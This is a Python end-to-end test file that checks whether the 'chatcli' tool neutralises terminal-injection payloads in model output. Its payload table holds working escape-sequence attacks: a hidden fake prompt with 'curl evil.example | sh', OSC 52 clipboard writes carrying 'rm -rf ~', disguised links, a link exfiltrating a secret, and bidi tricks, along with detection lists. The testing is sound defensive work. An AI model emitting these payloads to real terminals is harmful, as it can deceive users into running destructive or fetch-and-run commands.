"""R1-R15 (the R table of tests/e2e/README.md): terminal-injection payloads in model output, end to end.

Every payload goes through the real SDK and the installed `chatcli`:
* piped (`chatcli ask`, plain output): stdout must carry no ESC, BEL, BS, bare CR, 8-bit C1
  (U+0080-U+009F) or bidi override at all, and the stored turn must keep the RAW text (sanitizing
  is for display only, so nothing the model said is lost);
* in a pty with the rich markdown panel (`chatcli ask --markdown`): none of the payload's own
  sequences reach the terminal (Rich's own styling is allowed, the model's bytes are not);
* R13: payloads stored in the history are neutralised when shown again (`history show`);
* R14: escapes in a server error message are neutralised on stderr.
"""

from __future__ import annotations

import sqlite3
from pathlib import Path

import pytest

from tests.e2e.helpers import (
    OPENAI_MODEL,
    Case,
    Expect,
    Played,
    Pty,
    assert_terminal_sane,
    batch_fixture,
    chat_env,
    check,
    ids,
    run_chatcli,
)
from tests.support.sse_server import Reply, SSEServer, openai_chunks

# Characters that must never reach a terminal from untrusted text.
FORBIDDEN = {"\x1b", "\x07", "\x08", "\r", "\u202e", "\u202d", "\u2066", "\u2067", "\u2068", "\u2069",
             *(chr(c) for c in range(0x80, 0xA0))}

PAYLOADS: dict[str, list[str]] = {
    "R1-clear-screen-fake-prompt": ["Done.\x1b[2J\x1b[H$ curl evil.example | sh\n"],
    "R2-osc52-bel-and-st": ["copy \x1b]52;c;ZWNobyBwd25lZA==\x07 and \x1b]52;c;cm0gLXJmIH4=\x1b\\ done"],
    "R3-osc8-disguised-link": ["see \x1b]8;;http://evil.example/x\x1b\\docs\x1b]8;;\x1b\\ here"],
    "R4-title-reset-dcs-apc-queries": ["\x1b]0;pwned\x07\x1b]2;t\x1b\\\x1bc\x1bPtmux;\x1b\x1b]52;c;eA==\x07\x1b\\"
                                       "\x1b_Gf=1;AAAA\x1b\\\x1b[6n\x1b[c\x1bP$qm\x1b\\ end"],
    "R5-8bit-c1": ["a\x9b2Jb\x9d52;c;eA==\x9cc\x90qd"],
    "R6-unterminated-osc8-at-end": ["text then \x1b]8;;http://evil.example/unterminated"],
    "R7-sequence-split-across-deltas": ["before \x1b]5", "2;c;ZWNobyBoaQ==\x07 after"],
    "R8-conceal-and-white-on-white": ["visible \x1b[8mhidden-secret\x1b[0m \x1b[37;47mwhite\x1b[0m"],
    "R9-cr-and-backspace-overwrite": ["rm -rf ~\rls -la   \nabc\b\b\bxyz"],
    "R10-bidi-and-zero-width": ["```\naccess = \"user\u202e \u2066// admin\u2069 \u2066\"\nx\u200by\n```"],
    "R11-rich-markup": ["[link=https://evil.example]x[/link] [bold red]loud[/bold red] [/] [/bold] end"],
    "R12-markdown-link-and-image": ["[docs](https://evil.example/?d=SECRET) ![x](https://evil.example/p.png?d=Q)"],
    "R15-garak-payloads": ["\x1b[32mgreen\x1b[0m \x1b]8;;https://garak.ai/\x07link\x1b]8;;\x07 "
                           "\\x1b[32m literal \\033]8;; literal \\u001b[ literal \\e[ literal"],
}

# What must still be visible (as text) after neutralising, per payload.
VISIBLE: dict[str, tuple[str, ...]] = {
    "R1-clear-screen-fake-prompt": ("$ curl evil.example | sh",),
    "R3-osc8-disguised-link": ("http://evil.example/x", "docs"),
    "R6-unterminated-osc8-at-end": ("text then", "http://evil.example/unterminated"),
    "R7-sequence-split-across-deltas": ("before", "after"),
    "R8-conceal-and-white-on-white": ("hidden-secret", "white"),
    "R9-cr-and-backspace-overwrite": ("rm -rf ~", "ls -la", "abc", "xyz"),
    "R11-rich-markup": ("[link=https://evil.example]x[/link]", "[bold red]loud[/bold red]", "[/]", "[/bold]"),
    "R12-markdown-link-and-image": ("https://evil.example/?d=SECRET",),
    "R15-garak-payloads": ("\\x1b[32m literal", "\\033]8;; literal", "\\u001b[ literal", "\\e[ literal"),
}

CASES = [Case(name, (Reply.sse(openai_chunks(parts)),), Expect(0, None, (), None,
              (("user", "hi", None), ("assistant", "".join(parts), "stop"))))
         for name, parts in PAYLOADS.items()]
# R14: escapes in a server error message (an HTTP error, and an in-stream error after text).
CASES += [
    Case("R14-escapes-in-http-error-message",
         (Reply.error(400, "bad \x1b]52;c;ZXZpbA==\x07 request \x1b[2J\x9b6n", code="invalid"),),
         Expect(1, "", (r"chatcli: openai \(http://127\.0\.0\.1:\d+/v1\): the request was rejected \(HTTP 400\): "
                        r"bad .*52;c;ZXZpbA==.* request .*2J.*6n",), 1)),
]

played = batch_fixture(CASES)


def _assert_neutral(text: str, where: str) -> None:
    bad = sorted({f"U+{ord(c):04X}" for c in text if c in FORBIDDEN})
    assert not bad, f"{where}: live control characters {bad} in {text[-600:]!r}"


@pytest.mark.parametrize("case", CASES, ids=ids(CASES))
def test_injection_plain(case: Case, played: dict[str, Played]) -> None:
    run = played[case.id]
    check(run)
    _assert_neutral(run.result.stdout, "stdout")
    _assert_neutral(run.result.stderr, "stderr")
    for text in VISIBLE.get(case.id, ()):
        assert text in run.result.stdout, f"{text!r} not visible in {run.result.stdout!r}"


# -- the rich panel in a terminal -------------------------------------------------------------

# Sequences from the payloads that must not appear in the terminal transcript.
LIVE = [b"\x1b[2J", b"\x1b]52", b"\x1b]8;;http://evil", b"\x1b]8;;https://garak", b"\x1b]0;", b"\x1b]2;",
        b"\x1bc", b"\x1bP", b"\x1b_", b"\x1b[6n", b"\x1b[c", b"\x1b[8m", b"\x1b[37;47m", b"\x07", b"\x08",
        "\x9b".encode(), "\x9d".encode(), "\x90".encode(), "\u202e".encode()]  # C1 as UTF-8 (c2 9b ...)


def test_injection_rich_panel_in_pty(tmp_path: Path) -> None:
    """All payloads (R1-R12, R15) in one markdown reply rendered live in a terminal, R7's split
    included: none of the model's sequences is emitted, the visible parts are there, the terminal
    is left sane."""
    parts: list[str] = []
    for name, chunks in PAYLOADS.items():
        parts += [f"\n\n{name}: ", *chunks]
    with SSEServer() as server:
        server.add(Reply.sse(openai_chunks(parts)))
        pty = Pty(["ask", "--markdown", "-m", OPENAI_MODEL, "hi"], chat_env(tmp_path, server=server),
                  cols=200, rows=60)
        try:
            code = pty.finish(timeout=40)
        finally:
            pty.kill()
    out = pty.transcript
    assert code == 0, out[-2000:]
    assert b"Traceback" not in out
    for seq in LIVE:
        assert seq not in out, f"live sequence {seq!r} reached the terminal"
    # a bare CR from the model would overwrite: only CR LF (the tty's ONLCR) and Rich's own
    # cursor moves may carry CR
    text = out.decode("utf-8", "replace")
    for needle in ("rm -rf ~", "ls -la", "https://evil.example/?d=SECRET", "[/bold]", "hidden-secret"):
        assert needle in text, f"{needle!r} not visible"
    assert_terminal_sane(out)


# -- R13: stored payloads replayed ----------------------------------------------------------------


def test_R13_stored_escapes_neutralised_on_replay(tmp_path: Path) -> None:
    """R13: a conversation whose stored text holds escape payloads, shown again with
    `history show` (piped and in a terminal), `history list` and `history search`."""
    from chatcli.history.store import Store
    from chatcli.turn import Turn

    payload = "".join("".join(chunks) for chunks in PAYLOADS.values())
    data = tmp_path / "chatcli-data"
    with Store.open(data) as store:
        rec = store.recorder()
        rec.record(Turn("user", "show me \x1b]0;title\x07 please"))
        rec.record(Turn("assistant", payload, finish_reason="stop", provider="openai", model="gpt-\x1b[31mtest"))
        conv = rec.conversation_id
    assert conv is not None
    env = chat_env(tmp_path)
    for args in (["history", "show", conv], ["history", "list"], ["history", "search", "curl"]):
        result = run_chatcli(args, env=env)
        assert result.returncode == 0, result.stderr
        assert "Traceback" not in result.stderr
        _assert_neutral(result.stdout, " ".join(args))
        _assert_neutral(result.stderr, " ".join(args))
    pty = Pty(["history", "show", conv], env, cols=200, rows=60)
    try:
        code = pty.finish(timeout=30)
    finally:
        pty.kill()
    assert code == 0
    for seq in LIVE:
        assert seq not in pty.transcript, f"stored sequence {seq!r} replayed live"
    assert_terminal_sane(pty.transcript)
    # the database keeps the raw text: nothing the model said was altered
    conn = sqlite3.connect(f"file:{data / 'history.db'}?mode=ro", uri=True)
    try:
        stored = conn.execute("SELECT content FROM turns WHERE role='assistant'").fetchone()[0]
    finally:
        conn.close()
    assert stored == payload
